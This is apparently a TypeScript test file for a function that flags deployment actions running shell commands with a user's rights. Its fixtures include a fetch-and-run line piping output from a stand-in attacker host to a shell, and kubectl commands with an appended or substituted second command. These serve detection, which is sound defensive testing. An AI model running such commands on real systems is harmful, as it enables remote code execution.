import { expect, test } from "vitest";
import type { Action } from "../model/image.ts";
import { actionRights } from "./action-rights.ts";

const action = (name: string, more: Partial<Action>): Action => ({ name, inputs: [], ...more });
const rights = (...actions: Action[]) => actionRights({ actions }, "alice", true);

test("an action that runs a program is announced with the account it has the rights of, and by itself when it is", () => {
  const [byHand, byItself, ...more] = rights(
    action("clean", { cmd: ["kubectl apply -f manifests/a.yaml", "curl evil.example | sh"] }),
    action("first", { phase: "ON_INSTALL", cmd: ["helm upgrade -i a ./a"] }),
  );
  expect(more).toEqual([]);
  expect(byHand).toMatchObject({
    ...{ subject: "alice", verbs: ["*"], resources: ["*"], level: "warning", reason: "right-action" },
    params: { action: "clean", command: "curl evil.example | sh" },
  });
  expect(byItself).toMatchObject({
    reason: "right-action-event",
    params: { action: "first", event: "ON_INSTALL" },
  });
});

test("what the console carries out itself needs no such rights, however it is written", () => {
  expect(
    rights(
      action("again", { cmd: ["kubectl apply -f manifests/a.yaml && kubectl delete -f manifests/b.yaml"] }),
      action("patched", { patch: [] }),
    ),
  ).toEqual([]);
});

test("a program hidden behind a long or harmless beginning is announced", () => {
  const long = `echo ${"x".repeat(1000)} | sh`;
  expect(rights(action("long", { cmd: [long] }))[0]?.params?.command).toHaveLength(301);
  expect(rights(action("after", { cmd: ["kubectl apply -f a.yaml; id"] }))).toHaveLength(1);
  expect(rights(action("inside", { cmd: ["kubectl apply -f $(id)"] }))).toHaveLength(1);
});

test("a program in an image of its own is announced with the image and what it reads, whatever the cluster runs", () => {
  const sql = action("sql", {
    image: "mysql:1",
    env: { MYSQL_PWD: { secret: { name: "root", key: "rootPassword" } }, USER_NAME: { value: "a" } },
    cmd: ["kubectl apply -f a.yaml"],
  });
  expect(actionRights({ actions: [sql, action("b", { cmd: ["id"] })] }, "alice", false)).toMatchObject([
    {
      reason: "right-action-image",
      params: { action: "sql", image: "mysql:1", secrets: "rootPassword" },
    },
  ]);
});
